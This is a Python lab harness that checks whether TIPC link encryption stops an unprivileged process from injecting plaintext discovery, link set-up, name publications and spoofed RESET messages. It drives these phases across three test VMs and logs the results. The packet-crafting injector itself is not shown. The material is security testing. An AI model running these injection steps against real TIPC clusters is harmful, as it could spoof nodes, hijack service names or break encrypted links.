#!/usr/bin/env python3
"""What a TIPC link key (`tipc node set key`) keeps out on the UDP bearer: runs in every guest of
  testbed/vm/tipc-vm --machines 3 --bearer udp --timeout 600 -- testbed/tipc-link-key-injection.py OUT_DIR

  m1  sets the key: the node under test; drives the phases below over TCP and observes itself
      (`tipc node list`, `tipc link list`, `tipc link stat show`, dmesg).
  m2  sets the same key, so m1-m2 is an encrypted link; hosts the attacker, an UNPRIVILEGED process
      (setpriv to uid/gid 65534, no groups) with an ordinary UDP socket: tipc-plaintext-inject.py.
  m3  sets no key: a root-run TIPC node without the key.

Phases, in order:
  C  m3 (keyless) disables and re-enables its bearer, i.e. joins afresh; m1 and m3 are watched for 20 s.
  A  the unprivileged process on m2 sends m1 a plaintext discovery request for a node that does not
     exist (address 0badc0de, identity "intruder"), with its own UDP port as that node's media address,
     then that node's side of a link set-up (RESET, ACTIVATE, STATE every 0.4 s) and a name publication
     {18700 (the shuffle's service type), 0..2^32-1} on that node, all plaintext; m1 is watched for a new
     node, link and name; the process records what reaches its socket.
  B  the unprivileged process on m2 sends m1 plaintext RESET_MSGs that claim to come from m2 (its
     node address read from `tipc node list`) for the encrypted link m1-m2; m1 is watched for the link
     going down.
Each machine writes OUT_DIR/m<k>.log; m1 also prints its log.
"""
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
KEY = "0x" + "5eed" * 18  # the testbed's LinkKey: 32 bytes of AES key, 4 of salt
CONTROL_PORT = 18711
FAKE_ADDR = "0badc0de"
FAKE_ID = "intruder"
ATTACKER_PORT = 40123
NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]

machine = int(os.environ["TIPC_TESTBED_MACHINE"])
subnet = "10.211.0"
for line in open(os.path.join(HERE, "network.env")):
    if line.startswith("MACHINE_SUBNET="):
        subnet = line.split("=", 1)[1].strip()
t0 = time.monotonic()
log_file = None


def ip(k):
    return "%s.%d" % (subnet, k)


def log(*parts):
    line = "[m%d %6.1fs] %s" % (machine, time.monotonic() - t0, " ".join(str(p) for p in parts))
    print(line, flush=True)
    if log_file:
        log_file.write(line + "\n")
        log_file.flush()


def sh(cmd, user=None):
    full = (NOBODY if user == "nobody" else []) + cmd
    r = subprocess.run(full, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    return r.stdout.strip() + ("" if r.returncode == 0 else "\n(exit %d)" % r.returncode)


def kmsg(text):
    with open("/dev/kmsg", "w") as k:
        k.write("injection-check: %s\n" % text)


def node_addresses(user=None):
    """{identity: address hex} from `tipc node list` (Node Identity, Hash, State)."""
    out = {}
    for line in sh(["tipc", "node", "list"], user).splitlines():
        f = line.split()
        if len(f) == 3 and re.fullmatch(r"[0-9a-f]{8}", f[1]):
            out[f[0]] = f[1]
    return out


def dmesg_lines():
    return sh(["dmesg"]).splitlines()


# ---- m2 and m3: a control server that runs what m1 asks --------------------------------------------

def serve():
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((ip(machine), CONTROL_PORT))
    srv.listen(1)
    conn, _ = srv.accept()
    f = conn.makefile("rw")
    for line in f:
        cmd = line.split()
        log("asked:", line.strip())
        if cmd[0] == "quit":
            break
        if cmd[0] == "status":
            answer = {"node list": sh(["tipc", "node", "list"]), "link list": sh(["tipc", "link", "list"])}
        elif cmd[0] == "rejoin":  # m3: leave and join afresh, without a key
            answer = {"disable": sh([os.path.join(HERE, "vm", "tipc-bearer"), "disable", nic()]),
                      "enable": sh([os.path.join(HERE, "vm", "tipc-bearer"), "enable", nic()])}
        elif cmd[0] in ("discover", "reset"):  # m2: the unprivileged attacker
            seen = node_addresses("nobody")
            answer = {"as nobody: id": sh(["id"], "nobody"),
                      "as nobody: tipc node list": sh(["tipc", "node", "list"], "nobody"),
                      "m1 address as nobody read it": seen.get("m1")}
            target = seen.get("m1") or node_addresses().get("m1")  # as root only if nobody could not read it
            if cmd[0] == "discover":
                argv = ["discover", ip(1), target, FAKE_ADDR, FAKE_ID, ip(machine), str(ATTACKER_PORT), cmd[2]]
            else:
                argv = ["reset", ip(1), target, cmd[1], cmd[2]]
            answer["injector argv"] = argv
            answer["injector"] = sh(["python3", os.path.join(HERE, "tipc-plaintext-inject.py")] + argv, "nobody")
        else:
            answer = {"error": "unknown command"}
        for k, v in answer.items():
            log("%s:\n%s" % (k, v))
        f.write(json.dumps(answer) + "\n")
        f.flush()


def nic():
    for name in os.listdir("/sys/class/net"):
        if os.path.exists("/sys/class/net/%s/device" % name):
            return name
    raise SystemExit("no NIC")


# ---- m1: the node under test ------------------------------------------------------------------------

class Peer:
    def __init__(self, k):
        deadline = time.monotonic() + 300
        while True:
            try:
                self.sock = socket.create_connection((ip(k), CONTROL_PORT), timeout=5)
                break
            except OSError:
                if time.monotonic() > deadline:
                    raise
                time.sleep(0.5)
        self.sock.settimeout(None)
        self.f = self.sock.makefile("rw")

    def ask(self, line):
        self.f.write(line + "\n")
        self.f.flush()
        return json.loads(self.f.readline())

    def quit(self):
        self.f.write("quit\n")
        self.f.flush()


def links():
    return sh(["tipc", "link", "list"])


def watch(seconds, interval, until=None):
    """Records every distinct (node list, link list) seen on m1 for `seconds` or until `until` is set."""
    seen, last = [], None
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not (until and until.is_set()):
        now = (sh(["tipc", "node", "list"]), links() + "\nname table, type 18700:\n" + shuffle_names())
        if now != last:
            seen.append((round(time.monotonic() - t0, 1), now))
            last = now
        time.sleep(interval)
    return seen


def shuffle_names():
    return "\n".join(l for l in sh(["tipc", "nametable", "show"]).splitlines() if l.startswith("18700 ")) or "(none)"


def show(title, snapshots):
    for t, (nodes, lks) in snapshots:
        log("%s at %.1fs:\n%s\n%s" % (title, t, nodes, lks))


def new_kernel_lines(before):
    lines = dmesg_lines()
    return "\n".join(lines[len(before):])


def await_link_up(peer_id, seconds):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if any(re.search(r"-%s:.*: up$" % peer_id, l) for l in links().splitlines()):
            return round(seconds - (deadline - time.monotonic()), 1)
        time.sleep(0.2)
    return None


def drive():
    m2, m3 = Peer(2), Peer(3)
    log("key set on m1; m2 has the same key, m3 none. link to m2 up after key:", await_link_up("m2", 60), "s")
    time.sleep(5)
    show("settled", watch(0, 1) or [(round(time.monotonic() - t0, 1), (sh(["tipc", "node", "list"]), links()))])
    log("m3 says:", json.dumps(m3.ask("status"), indent=1))

    # C: a node without the key joins afresh.
    before = dmesg_lines()
    kmsg("phase C: keyless m3 rejoins")
    log("phase C: m3 (no key) disables and re-enables its bearer:", json.dumps(m3.ask("rejoin")))
    show("phase C, m1", watch(20, 1))
    log("phase C, m3 says:", json.dumps(m3.ask("status"), indent=1))
    log("phase C, m1 kernel log:\n" + new_kernel_lines(before))

    # A: plaintext discovery and link set-up from an unprivileged UDP socket on m2.
    before = dmesg_lines()
    kmsg("phase A: unprivileged plaintext discovery + link set-up from m2")
    done = threading.Event()
    result = {}

    def attack():
        result["a"] = m2.ask("discover 0 8")
        done.set()

    threading.Thread(target=attack).start()
    show("phase A, m1", watch(60, 0.5, done))
    log("phase A, attacker's report:\n" + result["a"]["injector"])
    log("phase A, m1 after:\n%s\n%s" % (sh(["tipc", "node", "list"]), links()))
    log("phase A, m1 kernel log:\n" + new_kernel_lines(before))
    time.sleep(3)
    log("phase A, m1 3 s after the last frame:\n%s\n%s" % (sh(["tipc", "node", "list"]), links()))

    # B: plaintext RESET_MSGs claiming to be m2, for the encrypted link m1-m2.
    log("link to m2 up again before phase B:", await_link_up("m2", 60), "s")
    time.sleep(3)
    m2_addr = node_addresses().get("m2")
    log("phase B: m2's address on m1:", m2_addr, "; link stats before:\n" + sh(["tipc", "link", "stat", "show"]))
    before = dmesg_lines()
    kmsg("phase B: unprivileged plaintext RESET_MSG claiming m2")
    done = threading.Event()

    def reset():
        result["b"] = m2.ask("reset %s 4" % m2_addr)
        done.set()

    threading.Thread(target=reset).start()
    show("phase B, m1", watch(60, 0.2, done))
    log("phase B, attacker's report:\n" + result["b"]["injector"])
    log("phase B, m1 kernel log:\n" + new_kernel_lines(before))
    log("link to m2 up again after phase B:", await_link_up("m2", 60), "s")
    log("end: link stats:\n" + sh(["tipc", "link", "stat", "show"]))
    log("end: all tipc kernel lines:\n" + "\n".join(l for l in dmesg_lines() if "tipc" in l.lower() or "injection" in l))
    m2.quit()
    m3.quit()


def main():
    global log_file
    out = os.path.abspath(sys.argv[1])
    os.makedirs(out, exist_ok=True)
    log_file = open(os.path.join(out, "m%d.log" % machine), "w")
    log("kernel", os.uname().release, "machine", machine, "of", os.environ.get("TIPC_TESTBED_MACHINES"),
        "bearer", os.environ.get("TIPC_TESTBED_BEARER"))
    if machine in (1, 2):
        log("set key:", sh(["tipc", "node", "set", "key", KEY, "algname", "gcm(aes)"]) or "ok")
    log("nodes:\n" + sh(["tipc", "node", "list"]) + "\n" + links())
    if machine == 1:
        drive()
    else:
        serve()
    log("done")


if __name__ == "__main__":
    main()
